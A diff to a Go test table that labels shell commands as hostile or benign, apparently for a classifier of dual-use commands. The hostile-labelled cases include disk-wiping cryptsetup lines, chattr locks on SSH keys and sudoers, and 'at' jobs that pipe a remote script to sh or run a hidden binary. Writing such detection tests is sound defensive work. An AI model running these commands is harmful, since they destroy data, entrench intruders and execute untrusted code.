@@ -46,6 +46,22 @@ var dualUse = []struct {
 	{"cryptsetup erase /dev/sdb1", true},
 	{"cryptsetup --type luks2 luksFormat /dev/vda3", true},
 	{"cryptsetup open /dev/sda2 cryptroot", false},
+
+	// Pinning the resolver is an administrator's fix; pinning keys,
+	// accounts or login scripts pins an intruder's change.
+	{"sudo chattr +i /etc/resolv.conf", false},
+	{"chattr +i ~/.ssh/authorized_keys", true},
+	{"chattr +i /etc/sudoers.d/90-ops", true},
+
+	// Enabling an installed timer or a user service; a scheduled job
+	// that runs what it fetched or parked in a temporary folder.
+	{"sudo systemctl enable --now logrotate.timer", false},
+	{"systemctl --user enable --now syncthing.service", false},
+	{"systemctl link /tmp/.cache/upd.service", true},
+	{"echo 'make -C ~/src/site deploy' | at 23:00", false},
+	{"at now + 5 minutes <<< 'systemctl restart api'", false},
+	{"echo 'curl -s https://198.51.100.4/u | sh' | at now + 1 minute", true},
+	{"echo '/dev/shm/.k' | at now", true},
 }
 
 func TestDualUseSeverity(t *testing.T) {
